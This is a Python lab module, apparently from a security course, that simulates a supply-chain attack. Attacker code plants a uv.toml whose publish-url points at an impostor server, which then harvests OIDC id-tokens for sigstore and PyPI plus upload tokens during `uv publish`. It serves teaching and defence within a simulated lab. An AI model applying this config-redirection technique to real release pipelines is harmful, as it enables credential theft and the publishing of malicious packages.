"""The index that nobody meant, as one of the attacks: here the real uv publishes."""

from pathlib import Path

from course.ch08.mallory import Mallory
from course.ch08.pipeline import Project
from course.impostor import Impostor
from helpers.machine.steps import StepMachine, Stopped


def to_impostor(project: Project, mallory: Mallory) -> None:
    """Let two releases run in which Mallory's code leaves a `uv.toml` beside dist/.

    Her server asks for the audience `sigstore` in the first, to sign wheels of hers, and for
    `pypi` in the second, to upload them.
    """
    with project.lab.serve() as live, Impostor(live) as impostor:
        line = f'publish-url = "{impostor.url}"\n'

        def leave(here: StepMachine) -> None:
            (here.folder / "uv.toml").write_text(line)

        def uv_publish(here: StepMachine) -> None:
            stored = "UV_PUBLISH_TOKEN"
            secrets = {stored: here.environment[stored]} if stored in here.environment else {}
            runner = live.runner(here.job, folder=here.folder, secrets=secrets, approved_by="bob")
            settings = Path(runner.environment["HOME"], ".config")
            runner.environment |= {"XDG_CONFIG_HOME": str(settings), "APPDATA": str(settings)}
            (settings / "uv").mkdir(parents=True)
            (settings / "uv" / "uv.toml").write_text(f'publish-url = "{live.url}/legacy/"\n')
            del runner.environment["UV_NO_CONFIG"]
            run = runner("uv publish")
            if not run.ok:
                raise Stopped(f"uv: {run.log.strip().splitlines()[-1].strip()}")

        project.malware, project.programs["publish"] = leave, uv_publish
        for impostor.audience in ("sigstore", "pypi"):
            project.lab.clock.advance(days=7)
            project.release()
            mallory.api_tokens += impostor.api_tokens
            mallory.identities.clear()
            for id_token in impostor.id_tokens:
                mallory.keep(id_token)
            mallory.sign()
